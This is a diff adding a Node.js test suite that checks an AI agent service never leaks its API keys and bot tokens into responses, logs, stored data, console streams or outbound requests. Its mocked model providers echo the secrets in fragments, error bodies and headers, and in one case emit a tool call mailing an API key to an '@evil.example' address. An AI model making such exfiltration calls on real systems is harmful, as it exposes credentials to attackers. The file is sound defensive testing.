@@ -1,0 +1,177 @@
+// A secret value in every binding, and services that echo what they get in every way they can.
+// No value may turn up anywhere but in the one place where its own route attaches it.
+
+import assert from "node:assert/strict";
+import { randomBytes } from "node:crypto";
+import { after, before, test } from "node:test";
+import { loginCode } from "../../scripts/lib/login.mjs";
+import { readRows, until } from "./harness.mjs";
+import { REPLY_URL, completion, startAgent } from "./support.mjs";
+
+const fresh = (prefix) => `${prefix}${randomBytes(18).toString("hex")}`;
+
+const SECRETS = {
+  WEBHOOK_TOKEN: fresh("wt-"),
+  CONSOLE_TOKEN: fresh("ct-"),
+  SEAL_KEY: fresh("sk-"),
+  TELEGRAM_BOT_TOKEN: `7${randomBytes(4).readUInt32BE()}:${fresh("AA")}`,
+  TELEGRAM_WEBHOOK_SECRET: fresh("ts-"),
+  OPENAI_API_KEY: fresh("sk-proj-"),
+  ANTHROPIC_API_KEY: fresh("sk-ant-"),
+  WEBHOOK_SIGNING_SECRET: `whsec_${randomBytes(24).toString("base64")}`,
+  // Bindings that nothing reads today must not leak either.
+  SLACK_BOT_TOKEN: fresh("xoxb-"),
+  SLACK_SIGNING_SECRET: fresh("ss-"),
+  DISCORD_BOT_TOKEN: fresh("db-"),
+};
+const ALL = Object.values(SECRETS);
+/** Nothing that is read by strangers may hold this much of a secret. */
+const PART = 12;
+const PARTS = ALL.flatMap((value) => [value, value.slice(-PART), value.slice(0, PART + 6), Buffer.from(value).toString("base64").slice(2, -4), Buffer.from(value).toString("hex")]);
+
+const responses = [];
+let agent;
+let provider = "openai";
+
+function assertClean(text, where) {
+  for (const part of PARTS) assert.ok(!text.includes(part), `${where} holds ${part.slice(0, 6)}…`);
+}
+
+/** What the model repeats: all secrets, one of them cut at every place over the chunks. */
+const ECHO = `I was told ${ALL.join(" and ")}.`;
+
+const anthropic = (blocks) => Response.json({ id: "m", type: "message", role: "assistant", model: "m", content: blocks, stop_reason: blocks.at(-1).type === "tool_use" ? "tool_use" : "end_turn", usage: { input_tokens: 1, output_tokens: 1 } });
+
+async function outbound(request, record) {
+  const { hostname } = new URL(record.url);
+  const leaky = { "x-echo": ECHO, "set-cookie": `key=${SECRETS.OPENAI_API_KEY}` };
+  if (record.url === REPLY_URL) return new Response(ECHO, { status: 200, headers: leaky });
+  if (hostname === "api.telegram.org") return new Response(JSON.stringify({ ok: false, description: ECHO, error_code: 400 }), { status: 400, headers: leaky });
+  const prompt = JSON.parse(record.body);
+  const words = JSON.stringify(prompt.messages.filter((message) => message.role === "user").at(-1)?.content ?? "");
+  const answered = /tool_result|"role":"tool"/.test(JSON.stringify(prompt.messages.slice(prompt.messages.findLastIndex((message) => JSON.stringify(message).includes("ways-")))));
+  if (words.includes("ways-error")) return new Response(JSON.stringify({ error: { message: ECHO, type: ECHO } }), { status: 400, headers: leaky });
+  if (words.includes("ways-busy")) return new Response(ECHO, { status: 429, headers: { ...leaky, "retry-after": SECRETS.OPENAI_API_KEY } });
+  if (words.includes("ways-broken")) return new Response(`data: {"choices":[{"delta":{"content":"${ECHO}`, { headers: { "content-type": "text/event-stream", ...leaky } });
+  if (hostname === "api.anthropic.com") {
+    if (words.includes("ways-args") && !answered) return anthropic([{ type: "text", text: ECHO }, { type: "tool_use", id: SECRETS.ANTHROPIC_API_KEY, name: "notes_add", input: { text: ECHO } }]);
+    return anthropic([{ type: "thinking", thinking: ECHO, signature: SECRETS.ANTHROPIC_API_KEY }, { type: "text", text: ECHO }]);
+  }
+  if (words.includes("ways-args") && !answered) {
+    return completion({ calls: [["notes_add", { text: ECHO }], ["mail_send", { to: `${SECRETS.OPENAI_API_KEY}@evil.example`, subject: ECHO, body: ECHO }], [SECRETS.SEAL_KEY, { [SECRETS.SEAL_KEY]: 1 }], ["reply", { parts: [ECHO] }]] });
+  }
+  if (words.includes("ways-letters")) return completion({ pieces: [...ECHO] });
+  if (words.includes("ways-halves")) return completion({ pieces: ALL.flatMap((value) => [value.slice(0, -3), value.slice(-3), " "]) });
+  return completion({ text: ECHO });
+}
+
+/** A request whose whole answer is kept, to be searched at the end. */
+async function ask(path, init = {}) {
+  const response = await agent.fetch(path, init);
+  const text = await response.text();
+  responses.push(`${path} ${[...response.headers].join("\n")}\n${text}`);
+  return { status: response.status, text, headers: response.headers };
+}
+
+const hook = (conversation, text, headers = { prefer: "wait=15" }) =>
+  ask("/webhook/generic", { method: "POST", headers: { authorization: `Bearer ${SECRETS.WEBHOOK_TOKEN}`, ...headers }, body: JSON.stringify({ conversation, text }) });
+
+const api = (path, init = {}) => ask(path, { ...init, headers: { authorization: `Bearer ${SECRETS.CONSOLE_TOKEN}` } });
+
+before(async () => {
+  agent = await startAgent({ bindings: { ...SECRETS, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" }, outbound, persist: true });
+});
+
+after(() => agent.dispose());
+
+const WAYS = ["ways-plain", "ways-letters", "ways-halves", "ways-args", "ways-error", "ways-broken", "ways-busy"];
+
+/** Lets the model echo everything in every way, by webhook and with a console that watches. */
+async function echoAll() {
+  const login = await agent.fetch("/api/login", { method: "POST", body: JSON.stringify({ code: loginCode(SECRETS.CONSOLE_TOKEN) }) });
+  const url = new URL("/api/socket", agent.url);
+  url.protocol = "ws:";
+  const socket = new WebSocket(url, { headers: { cookie: login.headers.get("set-cookie").split(";")[0], origin: agent.url.origin } });
+  const heard = [];
+  socket.addEventListener("message", ({ data }) => heard.push(data));
+  await new Promise((resolve) => socket.addEventListener("open", resolve));
+  for (const way of WAYS) {
+    const answer = await hook(`${provider}-${way}`, `please ${way}`);
+    assert.equal(answer.status, 200, `${way}: ${answer.text}`);
+    socket.send(JSON.stringify({ type: "say", id: `${provider}-${way}`, text: `please ${way}` }));
+    await hook(`${provider}-${way}-later`, `please ${way}`, {});
+  }
+  await until(async () => (await api("/api/turns")).text.includes(provider === "openai" ? "openai-ways-busy-later" : "anthropic-ways-busy-later"), "all were taken");
+  await until(async () => !/"status":"(queued|running)"/.test((await api("/api/turns")).text), "all were done", 40_000);
+  socket.close();
+  assert.ok(heard.some((data) => data.includes('"message"')));
+  // What streams is put together again: a secret may come in pieces.
+  const deltas = heard.map((data) => JSON.parse(data)).filter((message) => message.type === "delta");
+  assertClean(deltas.map((delta) => delta.text).join(""), "the stream of the console");
+  assertClean(heard.join("\n"), "the console's socket");
+}
+
+test("a model of one format echoes every secret in every way", echoAll);
+
+test("a model of the other format does the same", async () => {
+  provider = "anthropic";
+  await agent.restart({ bindings: { ...SECRETS, WEBHOOK_REPLY_URL: REPLY_URL, MODEL_PROVIDER: provider, MODEL_NAME: "m" } });
+  await echoAll();
+});
+
+test("a chat platform that echoes its token, and strangers who guess", async () => {
+  const update = (text) => ask("/webhook/telegram", {
+    method: "POST",
+    headers: { "x-telegram-bot-api-secret-token": SECRETS.TELEGRAM_WEBHOOK_SECRET, "content-type": "application/json" },
+    body: JSON.stringify({ update_id: text.length, message: { message_id: 1, date: 1, chat: { id: 5, type: "private" }, from: { id: 5, is_bot: false, first_name: "A" }, text } }),
+  });
+  assert.equal((await update("/start")).status < 300, true);
+  await until(() => agent.egress.some((request) => request.url.includes("api.telegram.org")), "the platform was asked");
+  for (const path of ["/", "/healthz", "/api/state", "/api/nothing", "/webhook/nobody", "/api/login"]) {
+    await ask(path);
+    await ask(path, { method: "POST", body: "{" });
+  }
+});
+
+test("a secret that the owner pastes is neither stored nor sent, and the chat goes on", async () => {
+  const answer = await hook("pasted", `my token is ${SECRETS.SEAL_KEY} and ${SECRETS.OPENAI_API_KEY}`);
+  assert.equal(answer.status, 200);
+  assert.match(answer.text, /I was told/);
+  const next = await hook("pasted", "hello");
+  assert.match(next.text, /I was told/);
+});
+
+test("what the owner can read holds no secret", async () => {
+  for (const path of ["/api/state", "/api/turns", "/api/approvals", "/api/audit"]) assert.equal((await api(path)).status, 200);
+  for (const turn of JSON.parse((await api("/api/turns")).text).turns) await api(`/api/turns/${turn.id}`);
+  for (const text of responses) assertClean(text, text.slice(0, text.indexOf(" ")));
+});
+
+test("no log line and no stored row holds a secret", async () => {
+  assertClean(agent.logText(), "the log");
+  const rows = readRows(agent.folder);
+  assert.ok(rows.length > 50 && rows.some((row) => row.text.includes("ways-args")));
+  for (const row of rows) assertClean(row.text, `a row of ${row.table}`);
+});
+
+test("each secret leaves only where its own route attaches it", () => {
+  const hosts = new Set(agent.egress.map((request) => new URL(request.url).hostname));
+  assert.deepEqual([...hosts].sort(), ["api.anthropic.com", "api.openai.com", "api.telegram.org", "replies.example"]);
+  for (const { url, headers, body } of agent.egress) {
+    assertClean(body, `the body to ${new URL(url).hostname}`);
+    const { hostname } = new URL(url);
+    const rest = { ...headers };
+    let address = url;
+    if (hostname === "api.openai.com") {
+      assert.equal(rest.authorization, `Bearer ${SECRETS.OPENAI_API_KEY}`);
+      delete rest.authorization;
+    }
+    if (hostname === "api.anthropic.com") {
+      assert.equal(rest["x-api-key"], SECRETS.ANTHROPIC_API_KEY);
+      delete rest["x-api-key"];
+    }
+    if (hostname === "api.telegram.org") address = address.replace(`/bot${SECRETS.TELEGRAM_BOT_TOKEN}/`, "/bot/");
+    assertClean(decodeURIComponent(address), `the address at ${hostname}`);
+    assertClean(JSON.stringify(rest), `the headers to ${hostname}`);
+  }
+});
